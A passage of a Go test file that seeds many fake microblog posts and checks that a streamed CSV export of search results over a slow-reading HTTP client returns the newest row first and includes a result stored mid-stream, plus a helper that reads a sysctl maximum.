		return source.Item{ID: id, Source: "microblog", PublishedAt: base.Add(time.Duration(i) * time.Second),
			Author:  source.Author{Name: "Streamer", Username: "streamer", ProfileURL: "https://x.com/streamer"},
			Content: source.Content{Text: text, URL: "https://x.com/streamer/status/" + id}}
	}
	for start := 1; start <= n; start += 2000 {
		var batch []source.Item
		for i := start; i < min(start+2000, n+1); i++ {
			batch = append(batch, item(i))
		}
		if _, err := seed.Results(ctx, fx.st, sr.ID, base, batch); err != nil {
			t.Fatal(err)
		}
	}
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, fx.ts.URL+"/v1/searches/"+sr.ID+"/results?format=csv", nil)
	req.Header.Set("x-api-key", fx.ts.Key)
	hc := &http.Client{Transport: &http.Transport{DialContext: smallReceiveBuffer(rcvbuf).DialContext}}
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	r := csv.NewReader(bufio.NewReaderSize(resp.Body, 4096))
	var first [][]string
	for range 2 { // header and first row
		rec, err := r.Read()
		if err != nil {
			t.Fatal(err)
		}
		first = append(first, rec)
	}
	if first[1][0] != item(n).ID {
		t.Fatalf("first row is %s, want the newest, %s", first[1][0], item(n).ID)
	}
	if _, err := seed.Results(ctx, fx.st, sr.ID, base, []source.Item{item(0)}); err != nil {
		t.Fatal(err)
	}
	rows := 1
	var last []string
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("after %d rows: %v", rows, err)
		}
		rows++
		last = rec
	}
	if rows != n+1 || last[0] != item(0).ID {
		t.Fatalf("export has %d rows ending with %s; want %d ending with the result stored after the first row was read, %s",
			rows, last[0], n+1, item(0).ID)
	}
}

// sysctlMax is the largest value of a "min default max" sysctl, or def.
func sysctlMax(t *testing.T, path string, def int) int {
	raw, err := os.ReadFile(path)
	if err != nil {
		return def
	}
	f := strings.Fields(string(raw))
	if len(f) != 3 {
		return def
	}
	n, err := strconv.Atoi(f[2])
	if err != nil {
		return def
	}
	return n
}
